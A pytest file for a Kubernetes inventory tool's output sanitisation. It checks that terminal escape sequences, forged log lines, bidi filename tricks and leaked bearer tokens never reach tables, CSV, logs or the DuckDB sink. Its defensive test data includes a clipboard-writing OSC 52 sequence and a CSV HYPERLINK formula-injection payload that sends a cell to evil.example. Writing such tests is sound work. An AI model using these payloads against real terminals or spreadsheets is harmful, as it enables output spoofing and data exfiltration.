"""Text that anybody in a cluster may choose does nothing to a terminal, a spreadsheet, a log or a row."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import msgspec
import pytest
from made import sink_at
from replay import Replay, items, recording

import job.log
from job.cli import cli
from job.collect.ledger import collection_of
from job.collect.stats import ReadStats
from job.commands.answer import print_result
from job.commands.exits import INCOMPLETE, USAGE, fail
from job.commands.output import print_table
from job.printable import blank_tokens, without_tokens
from job.sinks.duckdb import DuckDBSink
from job.sinks.protocol import Result
from job.task import Task

HOSTILE = {
    "clipboard": "a\x1b]52;c;bHMK\x07:v1",
    "cursor": "a\x1b[2J\x1b[1;1Hb",
    "C1": "a\x9b31mb",
    "lines": "a\nforged\r\nline\x0b\x0c\x1c\x85\u2028\u2029b",
    "order": "a\u202egnp.\u2066exe",
    "invisible": "a\u200b\ufeff\u00adb",
    "tab": "a\tb",
    "delete": "a\x7f\x08b",
    "null": "a\x00b",
}


@pytest.mark.parametrize("form", ["table", "vertical", "csv", "json", "jsonl", "markdown"])
def test_a_row_is_one_printable_line(form: str, capsys: pytest.CaptureFixture[str]) -> None:
    columns = (("name", "STRING"), ("labels", "JSON"), ("a\x1b]0;x\x07", "STRING"))
    rows = [(text, [{"key": text, "value": text}], text) for text in HOSTILE.values()]
    print_result(Result(columns, rows), form)
    out = capsys.readouterr().out
    assert out.replace("\n", "").isprintable()
    if form in ("json", "jsonl"):  # nothing is lost
        found = json.loads(out) if form == "json" else [json.loads(line) for line in out.splitlines()]
        assert [row["name"] for row in found] == list(HOSTILE.values())
        assert found[0]["labels"][0]["value"] == HOSTILE["clipboard"]
    else:
        more = {"table": 3, "csv": 1, "markdown": 2, "vertical": 3 * len(rows) + 1}[form]
        assert len(out.splitlines()) == len(rows) + more
        slash = "\\\\" if form == "markdown" else "\\"
        assert rf"a{slash}x1b]52;c;bHMK{slash}x07:v1" in out.replace("\\]", "]")


def test_ordinary_text_and_numbers_are_printed_as_they_are(capsys: pytest.CaptureFixture[str]) -> None:
    moment = datetime(2026, 1, 2, 3, 4, 5, 6, tzinfo=UTC)
    row = ("café/日本:v1 🚀", -5, -1.5, Decimal("12345678901234567890"), True, None, moment, "a,b")
    columns = tuple((str(position), "STRING") for position in range(len(row)))
    print_result(Result(columns, [row]), "csv")
    assert list(csv.reader(io.StringIO(capsys.readouterr().out)))[1] == [
        "café/日本:v1 🚀", "-5", "-1.5", "12345678901234567890", "true", "", "2026-01-02 03:04:05.000006+00:00", "a,b",
    ]  # fmt: skip


@pytest.mark.parametrize(
    "start", ["=", "+", "-", "@", " =", "\t=", "\r=", "\n=", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
)
def test_no_cell_of_csv_is_a_formula(start: str, capsys: pytest.CaptureFixture[str]) -> None:
    text = f'{start}HYPERLINK("http://evil.example/?"&A1)'
    print_result(Result(((text, "STRING"),), [(text,)]), "csv")
    for (cell,) in csv.reader(io.StringIO(capsys.readouterr().out)):
        assert cell.startswith(("'", "\\"))


def test_cells_of_a_table_have_a_bounded_length(capsys: pytest.CaptureFixture[str]) -> None:
    print_table(("name",), [("x" * 1_000_000,)])
    assert len(capsys.readouterr().out) < 4000


@pytest.mark.parametrize("as_text", [True, False])
def test_a_log_line_is_one_line_without_tokens(
    as_text: bool, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(job.log, "_processors", job.log._pipeline("info", as_text=as_text))
    logger = job.log.structlog.wrap_logger(job.log._Stderr(), processors=job.log._processors)
    for text in HOSTILE.values():
        logger.info("cluster collected", cluster=text, detail=f"Bearer ya29.CANARY-token {text}", names=[text])
        logger.info(text)
    logger.info("x", detail="y" * 1_000_000)
    err = capsys.readouterr().err
    plain = err.replace("\x1b[0m", "")
    for code in ("1", "2", "31", "32", "33", "34", "35", "36"):
        plain = plain.replace(f"\x1b[{code}m", "")  # our own colours
    assert plain.replace("\n", "").isprintable()
    assert len(err.splitlines()) == 2 * len(HOSTILE) + 1
    assert "CANARY" not in err
    assert len(err) < 100_000


def test_an_error_forges_no_line_and_shows_no_token(capsys: pytest.CaptureFixture[str]) -> None:
    for text in HOSTILE.values():
        assert fail(USAGE, f"sink: {text} Authorization: Bearer CANARY") == USAGE
    err = capsys.readouterr().err
    assert err.replace("\n", "").isprintable()
    assert "CANARY" not in err


TOKEN = "CANARY-token-0"  # the one that the test's token endpoint gives first
JSON = {"Content-Type": "application/json"}


def _echoing(replay: Replay) -> None:
    """Lets the recorded cluster repeat its token wherever a row or a message could have it."""
    for name in ("list.deployments", "list.services", "list.nodes", "list.namespaces"):
        found = recording(name)
        page = json.loads(found["response"]["body"])
        for item in page["items"]:
            item["metadata"]["labels"] = {"echo": TOKEN, f"x/{TOKEN}": f"Bearer {TOKEN}", TOKEN: "y"}
        page["metadata"]["resourceVersion"] = TOKEN
        replay.answers[found["request"]["path"].partition("?")[0]] = (200, JSON, json.dumps(page).encode())
    pods = items("ok.viewer-pods")
    for pod in pods:
        pod["metadata"]["name"] += TOKEN
        pod["spec"]["nodeName"] = f"{TOKEN}.internal"
        for container in pod["spec"]["containers"]:
            container["image"] = f"registry.example.com/{TOKEN}:v1\x1b]52;c;bHMK\x07"
    pods[0]["metadata"]["labels"] = {"unreadable": 1}
    page = {"kind": "PodList", "metadata": {"resourceVersion": "1"}, "items": pods}
    replay.answers["/api/v1/pods"] = (200, JSON, json.dumps(page).encode())
    replay.answers["/version"] = (200, JSON, json.dumps({"gitVersion": f"v1.36+{TOKEN}"}).encode())
    wrong = {"kind": f"{TOKEN}List", "metadata": {}, "items": []}
    replay.answers["/apis/batch/v1/jobs"] = (200, JSON, json.dumps(wrong).encode())
    status = {"kind": "Status", "message": f"no: {TOKEN} \x1b[2J", "reason": TOKEN}
    replay.answers["/apis/batch/v1/cronjobs"] = (403, JSON, json.dumps(status).encode())
    replay.answers["/apis/apps/v1/statefulsets"] = (502, {"Content-Type": "text/plain"}, f"{TOKEN} is odd".encode())


def test_a_token_that_a_server_repeats_reaches_no_row_log_or_summary(
    replay: Replay, tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    _echoing(replay)
    settings = replay.configuration | {
        "sink": sink_at(tmp_path / "x.duckdb"), "timeouts": {"retry_seconds": 0.1}, "annotations": ["*"],
    }  # fmt: skip
    (tmp_path / "c.json").write_text(json.dumps(settings))
    arguments = ["run", "--config", str(tmp_path / "c.json"), "--json", "-v"]
    assert cli.main(arguments, prog_name="gke-inventory", standalone_mode=False) == INCOMPLETE
    assert replay.tokens == [TOKEN]
    written = capfd.readouterr()
    sink = DuckDBSink(tmp_path / "x.duckdb", timeout_seconds=5)
    dump = {"stdout": written.out, "stderr": written.err}
    with sink.kept_open() as kept:
        for (table,) in kept.query("SELECT table_name FROM duckdb_tables()").rows:
            dump[table] = json.dumps(kept.query(f"SELECT * FROM {table}").rows, default=str)
    assert [name for name, text in dump.items() if TOKEN in text] == []
    assert "registry.example.com/" in "".join(dump.values())  # the rows are there, with dots in place of the token
    for form in ("table", "csv", "json"):
        config = ["--config", str(tmp_path / "c.json")]
        sql = "SELECT DISTINCT image FROM pod_containers"
        cli.main(["query", sql, "--format", form, *config], prog_name="gke-inventory", standalone_mode=False)
    assert "\x1b" not in capfd.readouterr().out


def test_a_token_that_is_cut_short_is_blanked_too() -> None:
    token = f"ya29.c.{'Ab1-_' * 60}"
    row = bytearray(msgspec.json.encode({"label": f"Bearer-{token[:56]}", "next": "kept"}))
    blank_tokens(row, ["", "another", token])
    assert row == msgspec.json.encode({"label": f"Bearer-{'.' * 56}", "next": "kept"})


@pytest.mark.parametrize(
    ("text", "clean"),
    [
        ("Authorization: bearer abc.def", "Authorization: bearer ..."),
        ("BEARER abc, next", "BEARER ..., next"),
        ("token ya29.a0Af-_x9/= is", "token ... is"),
        ("eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiJ4In0.c2ln", "..."),
        ('{"a":"Bearer abc"}', '{"a":"Bearer ..."}'),
        ("no bearers here", "no bearers here"),
    ],
)
def test_what_looks_like_a_token_is_removed_from_messages(text: str, clean: str) -> None:
    assert without_tokens(text) == clean


def test_a_message_has_a_bounded_length() -> None:
    from job.collect.failures import Cause
    from job.collect.lists import ListResult
    from job.kinds import KINDS

    result = ListResult(KINDS[0], ReadStats(), Cause("expired", "a\x1b" * 100_000))
    row: Any = collection_of(result, Task("run", datetime(2026, 1, 1, tzinfo=UTC)))
    assert len(row.message) <= 2000
    assert row.message.isprintable()
